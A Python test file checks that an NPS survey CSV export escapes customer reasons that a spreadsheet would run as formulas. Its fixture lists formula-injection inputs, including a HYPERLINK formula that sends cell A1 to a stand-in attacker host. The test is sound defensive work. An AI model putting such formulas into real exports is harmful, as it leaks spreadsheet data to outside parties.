"""The NPS CSV export: a customer's reason that a spreadsheet would run as a formula stays text."""

import csv
import io

import pytest
from sqlalchemy import select

from bot.models.survey import Survey, SurveyState
from bot.surveys.report import CSV_COLUMNS, report_csv
from contracts.survey_result import SurveyOutcome
from db.sessions import session_factory, unit_of_work
from shop.models import Order
from tests.conftest import FIXED_NOW

REASONS = {
    '=HYPERLINK("http://attacker.example/?q="&A1,"Kliknij")': '\'=HYPERLINK("http://attacker.example/?q="&A1,"Kliknij")',
    "+48 601 234 567 call me": "'+48 601 234 567 call me",
    "-2+3 za dostawę": "'-2+3 za dostawę",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Szybka dostawa, polecam = 10/10": "Szybka dostawa, polecam = 10/10",
}


@pytest.fixture
def surveys_with_reasons(shop, migrated_engine):
    sessions = session_factory(migrated_engine)
    with unit_of_work(sessions) as session:
        orders = session.scalars(select(Order).order_by(Order.id).limit(len(REASONS))).all()
        for order, reason in zip(orders, REASONS):
            session.add(Survey(order_number=order.number, customer_id=order.customer_id, phone="+48601234567", language="pl",
                               time_zone="Europe/Warsaw", state=SurveyState.FINISHED, outcome=SurveyOutcome.COMPLETED,
                               attempts=1, score=5, reason=reason, answered_via="voice", created_at=FIXED_NOW,
                               finished_at=FIXED_NOW))
    return sessions


def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(surveys_with_reasons):
    with surveys_with_reasons() as session:
        rows = list(csv.DictReader(io.StringIO(report_csv(session), newline="")))
    assert list(rows[0]) == CSV_COLUMNS
    assert sorted(row["reason"] for row in rows) == sorted(REASONS.values())
    assert {row["score"] for row in rows} == {"5"}  # numbers stay numbers
